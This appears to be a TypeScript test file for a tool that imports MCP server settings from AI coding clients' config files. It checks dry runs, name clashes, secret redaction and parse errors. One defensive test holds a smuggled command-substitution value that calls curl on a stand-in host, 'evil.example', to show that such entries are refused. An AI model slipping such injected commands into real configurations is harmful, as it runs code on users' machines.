import { chmodSync, readdirSync, readFileSync, statSync } from 'node:fs'
import { join } from 'node:path'
import t from 'tap'
import { readSettings } from '../../../cli/settings/read-settings.js'
import { flatten, resolveOptions } from '../../../options.js'
import { readEntries } from '../../../upstreams/config/read-entries.js'
import type { ServerEntry } from '../../../upstreams/server-entry.js'
import { clientText, home } from './home.js'

const json = (value: object): string => `${JSON.stringify(value, null, 2)}\n`

/** Variables that the files refer to. */
const ENV = {
  GITHUB_TOKEN: 'g',
  API_KEY: 'k',
  LINEAR_TOKEN: 'l',
  PATCHBAY_INPUT_PERPLEXITY_KEY: 'p',
  CONTEXT7_API_KEY: 'c',
  FIGMA_TOKEN: 'f',
  FIGMA_TEAM: 's',
  DB_URL: 'd',
  AUTH_TOKEN: 'a',
  OPENWEATHER_API_KEY: 'w',
  AWS_PROFILE: 'shop',
  KIRO_TOKEN: 'k',
  SQLITE_MODE: 'ro',
  SEARCH_KEY: 's'
}

/** The file of each client in the tests of reading, and where the client has it in a project or at home. */
const CLIENTS: Array<[client: string, folder: string, place: string]> = [
  ['claude-desktop', 'claude-desktop/claude_desktop_config.json', '.config/Claude/claude_desktop_config.json'],
  ['claude-code', 'claude-code/.mcp.json', 'work/.mcp.json'],
  ['claude-code', 'claude-code/.claude.json', '.claude.json'],
  ['cursor', 'cursor/.cursor/mcp.json', 'work/.cursor/mcp.json'],
  ['vscode', 'vscode/.vscode/mcp.json', 'work/.vscode/mcp.json'],
  ['codex', 'codex/.codex/config.toml', 'work/.codex/config.toml'],
  ['gemini', 'gemini/.gemini/settings.json', 'work/.gemini/settings.json'],
  ['windsurf', 'windsurf/mcp_config.json', '.codeium/windsurf/mcp_config.json'],
  ['zed', 'zed/.zed/settings.json', 'work/.zed/settings.json'],
  [
    'cline',
    'cline/cline_mcp_settings.json',
    '.config/Code/User/globalStorage/saoudrizwan.claude-dev/settings/cline_mcp_settings.json'
  ],
  ['kiro', 'kiro/.kiro/settings/mcp.json', 'work/.kiro/settings/mcp.json'],
  ['continue', 'continue/.continue/mcpServers/team.yaml', 'work/.continue/mcpServers/team.yaml']
]

/** The part of an entry that the gateway acts on. A working directory that only the file gave does not count. */
function acted (entry: ServerEntry, places: string[]) {
  const { alias, address, timeout, startTimeout, includeTools, excludeTools } = entry
  const isImplied = address.kind === 'stdio' && places.includes(address.cwd ?? '')
  return {
    alias,
    address: isImplied ? { ...address, cwd: '' } : address,
    timeout,
    startTimeout,
    includeTools,
    excludeTools
  }
}

for (const [client, source, place] of CLIENTS) {
  t.test(`what is imported from ${source} is served as the file itself would be`, async t => {
    const { machine, path, config, ...at } = await home(t, {
      [place]: clientText(source),
      'work/.env': 'REGION=eu',
      '.codeium/windsurf/secret.txt': 'from-a-file'
    })
    await at.import({ clients: [client], write: true, secrets: 'keep' })
    const around = { env: ENV, home: machine.home, cwd: machine.cwd }
    const direct = await readEntries(flatten(resolveOptions({ mcpConfig: [path(place)] })), around)
    const { options } = readSettings([], machine.env, machine.cwd)
    const moved = await readEntries(flatten(resolveOptions(options)), around)
    t.strictSame(moved.leftOut, [])
    const places = [path('.'), join(path('.')), join(config, '..'), join(path(place), '..'), machine.cwd]
    t.strictSame(
      moved.entries.map(entry => acted(entry, places)),
      direct.entries.filter(({ disabled }) => !disabled).map(entry => acted(entry, places))
    )
    t.equal(readFileSync(path(place), 'utf8'), clientText(source), 'the file of the client is as it was')
  })
}

t.test('without --write nothing is written, and the output says what would be', async t => {
  const { place, ...at } = await home(t, {
    '.cursor/mcp.json': json({
      mcpServers: {
        files: { command: 'npx', args: ['-y', 'files'] },
        patchbay: { command: 'node', args: ['/opt/patchbay/dist/cli.js', '--stdio'] },
        remote: { command: 'npx', args: ['-y', 'mcp-remote', 'http://127.0.0.1:8080/mcp'] },
        off: { command: 'x', disabled: true },
        odd: { args: [] },
        boxed: { command: 'x', sandboxEnabled: true }
      }
    })
  })
  const printed = await at.import()
  t.equal(printed.replaceAll(place, '~').replace(/node \S+ (?=[ie][mx]port)/g, 'patchbay '), `Cursor: ~/.cursor/mcp.json
  + files
  - patchbay: skipped, because it is Patchbay itself
  - remote: skipped, because it is Patchbay itself
  - off: skipped, because it is disabled there
  - odd: skipped, because it needs a command or a url
  - boxed: skipped, because its sandboxEnabled asks for a sandbox of its client, which Patchbay does not have; put one into command, such as docker run, or remove the field if the server needs none

--- (new file)
+++ ~/.config/patchbay/patchbay.json
@@ -0,0 +1,8 @@
+{
+  "mcpServers": {
+    "files": {
+      "command": "npx",
+      "args": ["-y", "files"]
+    }
+  }
+}

One entry for Patchbay can take the place of what is imported; each command shows it first:
  patchbay export cursor   (1 server in ~/.cursor/mcp.json)

Nothing was written. To write it: patchbay import --write
`)
  t.strictSame(readdirSync(place).sort(), ['.cursor', 'work'])
})

t.test('names that clash: the same server is one, another one gets the name of its client', async t => {
  const same = { command: 'npx', args: ['same'] }
  const { place, config, ...at } = await home(t, {
    '.config/Claude/claude_desktop_config.json': json({ mcpServers: { one: same, two: { command: 'a' } } }),
    '.cursor/mcp.json': json({ mcpServers: { one: same, Two: { command: 'b' }, sse: { command: 'c' } } }),
    '.kiro/settings/mcp.json': json({ mcpServers: { two: { command: 'd' } } }),
    '.config/patchbay/patchbay.json': '{\n  // mine\n  "mcpServers": { "two-kiro": { "command": "e" } }\n}\n'
  })
  const printed = await at.import({ write: true })
  t.match(printed, '  = one: is the same as one of Claude Desktop\n')
  t.match(printed, '  + Two → Two-cursor: is another server than that of Claude Desktop, so it gets a name of its own\n')
  t.match(printed, '  + sse → sse-cursor: ')
  t.match(printed, '  + two → two-kiro-2: ')
  t.match(printed, `Written: ${config} (as it was: ${config}.bak)\n`)
  t.match(printed, /export claude-desktop {3}\(2 servers in .*\n.*export cursor {3}\(3 servers/)
  t.match(readFileSync(config, 'utf8'), /^\{\n {2}\/\/ mine\n/, 'comments stay')
  const { options } = readSettings([], { HOME: place }, place)
  t.strictSame(Object.keys(options.mcpServers ?? {}), ['two-kiro', 'one', 'two', 'Two-cursor', 'sse-cursor', 'two-kiro-2'])
  const before = readFileSync(config, 'utf8')
  const again = await at.import({ write: true })
  t.match(again, `There is nothing new for ${config}.\n`)
  t.match(again, '  = two: is in the config file already as two-kiro-2\n')
  t.equal(readFileSync(config, 'utf8'), before)
})

const SECRETS = {
  github: { command: 'npx', env: { GITHUB_TOKEN: 'ghp_0123456789abcdefghij', LEVEL: 'info' } },
  other: { command: 'npx', env: { GITHUB_TOKEN: 'ghp_another456789abcdefghij' } },
  web: { url: 'https://u:hunter2hunter@mcp.example.com/mcp?api_key=k-e-y-1&team=a', headers: { Authorization: 'Bearer t-o-k-e-n', 'X-Team': 'a' } },
  args: { command: 'npx', args: ['--api-key', 'arg-secret-1', '--token=arg-secret-2', '-e', 'MY_PASSWORD=arg-secret-3', '--header', 'Authorization: Bearer arg-secret-4'] },
  set: { command: 'npx', env: { API_KEY: '${API_KEY}' } } // eslint-disable-line no-template-curly-in-string
}
const VALUES = [
  'ghp_0123456789abcdefghij',
  'ghp_another456789abcdefghij',
  'hunter2hunter',
  'k-e-y-1',
  't-o-k-e-n',
  ...[1, 2, 3, 4].map(count => `arg-secret-${count}`)
]

t.test('secrets are left out as variables, which are listed, and are printed by no way', async t => {
  for (const secrets of ['variables', 'files', 'keep'] as const) {
    const { config, place, ...at } = await home(t, { '.cursor/mcp.json': json({ mcpServers: SECRETS }) })
    const printed = (await at.import({ secrets })) + (await at.import({ secrets, write: true }))
    const text = readFileSync(config, 'utf8')
    for (const value of VALUES) {
      t.notMatch(printed, value)
      t.equal(text.includes(value), secrets === 'keep', `${secrets}: ${value}`)
    }
    t.equal(statSync(config).mode & 0o777, 0o600)
    if (secrets === 'keep') continue
    const names = [
      'GITHUB_TOKEN', 'OTHER_GITHUB_TOKEN', 'WEB_PASSWORD', 'WEB_API_KEY', 'WEB_TOKEN',
      'ARGS_API_KEY', 'ARGS_TOKEN', 'MY_PASSWORD', 'ARGS_TOKEN_2'
    ]
    for (const name of names) t.match(printed, `  ${name}\n`)
    const folder = join(config, '../secrets')
    if (secrets === 'files') t.equal(readFileSync(join(folder, 'GITHUB_TOKEN'), 'utf8'), 'ghp_0123456789abcdefghij\n')
    if (secrets === 'files') t.equal(statSync(join(folder, 'WEB_TOKEN')).mode & 0o777, 0o600)
    const env = { HOME: place, ...secrets === 'variables' && Object.fromEntries(names.map((name, index) => [name, `v-${index}`])) }
    const { options } = readSettings([], env, place)
    const { entries, leftOut } = await readEntries(flatten(resolveOptions(options)), {
      env: { ...env, API_KEY: 'x' },
      home: place,
      cwd: place
    })
    t.strictSame(leftOut, [], 'every variable has a value')
    const web = entries.find(({ alias }) => alias === 'web')?.address
    if (secrets === 'files') t.match(web, { url: 'https://mcp.example.com/mcp?api_key=k-e-y-1&team=a', headers: { Authorization: 'Bearer t-o-k-e-n' } })
  }
})

t.test('a remote server keeps its client for a sign-in, without the secret, and the output says what comes next', async t => {
  const auth = { CLIENT_ID: 'mine', CLIENT_SECRET: 'client-secret-1', scopes: ['read'] }
  const { config, ...at } = await home(t, {
    '.cursor/mcp.json': json({ mcpServers: { linear: { url: 'https://mcp.linear.app/mcp', auth } } })
  })
  const printed = await at.import({ write: true })
  t.strictSame(JSON.parse(readFileSync(config, 'utf8')), {
    mcpServers: {
      linear: {
        url: 'https://mcp.linear.app/mcp',
        oauth: { clientId: 'mine', clientSecret: '${LINEAR_CLIENT_SECRET}', scopes: ['read'] } // eslint-disable-line no-template-curly-in-string
      }
    }
  })
  t.notMatch(printed, 'client-secret-1')
  t.match(printed, /Servers with a URL may want a sign-in: .* login says which\.\n/)
})

t.test('a server that would run a program of a project for a value does not become one of the user', async t => {
  const args = ['${command:curl evil.example}'] // eslint-disable-line no-template-curly-in-string
  const { config, ...at } = await home(t, {
    'work/.mcp.json': json({ mcpServers: { sly: { command: 'x', args }, fine: { command: 'y' } } })
  })
  const printed = await at.import({ write: true })
  t.match(printed, /- sly: skipped, because it runs a program for a value, and .* is the file of a project\n/)
  t.strictSame(Object.keys((JSON.parse(readFileSync(config, 'utf8')) as { mcpServers: object }).mcpServers), ['fine'])
})

t.test('a file that cannot be parsed is named, and the others are imported', async t => {
  const { path, ...at } = await home(t, {
    '.cursor/mcp.json': '{ "mcpServers": ',
    '.kiro/settings/mcp.json': json({ mcpServers: { one: { command: 'a' } } }),
    '.gemini/settings.json': json({ theme: 'dark' })
  })
  const printed = await at.import()
  t.match(printed, `  ! ${path('.cursor/mcp.json')}, line 1: this is not JSON`)
  t.match(printed, '+    "one": {')
  t.match(printed, 'Gemini CLI: ')
  t.match(printed, '  no servers\n')
  t.match(await at.import({ clients: ['zed'] }), 'No file of zed was found.')
})

t.test('a config file with a mistake, or one that is read-only, is not touched', async t => {
  const { config, path, ...at } = await home(t, {
    '.cursor/mcp.json': json({ mcpServers: { one: { command: 'a' } } }),
    '.config/patchbay/patchbay.json': '{ "port": 1, }'
  })
  await t.rejects(at.import({ write: true }), /line 1, column 14: there is a comma too many/)
  const other = path('read-only.json')
  await at.import({ write: true, config: other })
  chmodSync(other, 0o400)
  await t.resolves(at.import({ write: true, config: other }), 'there is nothing to write')
  await t.rejects(at.import({ write: true, config: '/proc/patchbay.json' }), /cannot be written|ENOENT/)
  t.equal(readFileSync(config, 'utf8'), '{ "port": 1, }')
})
